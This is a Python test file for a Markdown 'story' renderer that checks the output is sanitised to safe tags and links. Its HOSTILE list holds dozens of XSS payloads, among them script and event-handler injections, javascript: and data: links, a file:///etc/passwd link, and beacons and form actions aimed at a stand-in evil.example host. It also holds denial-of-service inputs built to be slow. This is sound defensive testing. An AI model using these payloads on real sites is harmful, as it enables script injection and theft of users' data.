"""Stories are written by strangers and read by everybody."""

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from marketplace.projects import story

TAGS = {"p", "br", "strong", "em", "a", "ul", "ol", "li", "blockquote", "h3", "h4", "h5", "h6", "hr", "code", "pre"}
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{background:url(//evil.example)}</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=//evil.example><input name=q></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--><script>alert(1)</script-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/deconnexion)",
    '[x](http://a.example/"onmouseover=alert(1))',
    "[x](http://a.example 'title\" onclick=alert(1) x=\"')",
    "<javascript:alert(1)>",
    "<http://a.example/'onclick='alert(1)>",
    "![x](http://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "[![x](http://evil.example/p.png)](http://a.example)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "<details open ontoggle=alert(1)>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div class=btn id=contenu>x</div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "| <b>x</b> |\n|---|\n| <script>alert(1)</script> |",
]


def judge(html):
    """Assert that a fragment holds allowed elements and attributes only."""
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str) or element.tag == "DOCUMENT_FRAGMENT":
            continue
        assert element.tag in TAGS
        allowed = {"a": {"href", "title", "rel"}, "ol": {"start"}}.get(element.tag, set())
        assert set(element.attrib) <= allowed
        if element.tag == "a" and "href" in element.attrib:
            assert element.attrib["href"].startswith(("http://", "https://", "mailto:"))
            assert element.attrib["rel"] == "nofollow ugc noopener"


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_hostile_story_is_harmless(payload):
    judge(story.render(payload))
    judge(story.render(f"> 1. {payload}\n\n**{payload}**"))


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "**", "_", "\n", "\n\n", "> ", "- ", "`", "[", "](", ")", "<", "&#"]), max_size=12
    )
)
def test_no_mixture_gets_through(parts):
    judge(story.render("".join(parts)))


@given(st.text())
def test_any_text_renders(text):
    judge(story.render(text))


def test_ordinary_markdown_is_kept():
    html = story.render(
        'Un **pain**, une *idée*.\n\n- four\n- pétrin\n\n> Bonjour\n\n[Site](https://fournil.example "Le site")'
    )

    assert "<strong>pain</strong>" in html
    assert "<em>idée</em>" in html
    assert "<li>four</li>" in html
    assert "<blockquote>" in html
    assert '<a href="https://fournil.example" title="Le site" rel="nofollow ugc noopener">Site</a>' in html


def test_headings_start_below_those_of_the_page_and_leave_no_gap():
    html = story.render("## Deux\n\n#### Quatre\n\n# Un\n\nTitre\n===\n\n###### Six")

    assert [line for line in html.splitlines() if line.startswith("<h")] == [
        "<h3>Deux</h3>",
        "<h4>Quatre</h4>",
        "<h3>Un</h3>",
        "<h3>Titre</h3>",
        "<h4>Six</h4>",
    ]


@pytest.mark.untimed
@pytest.mark.parametrize(
    "payload", ["[" * 20_000, "> " * 10_000, "*a " * 7_000, "`" * 20_000, "<" * 20_000, "![" * 10_000]
)
@pytest.mark.timeout(5)
def test_a_story_made_to_be_slow_is_not(payload):
    judge(story.render(payload))
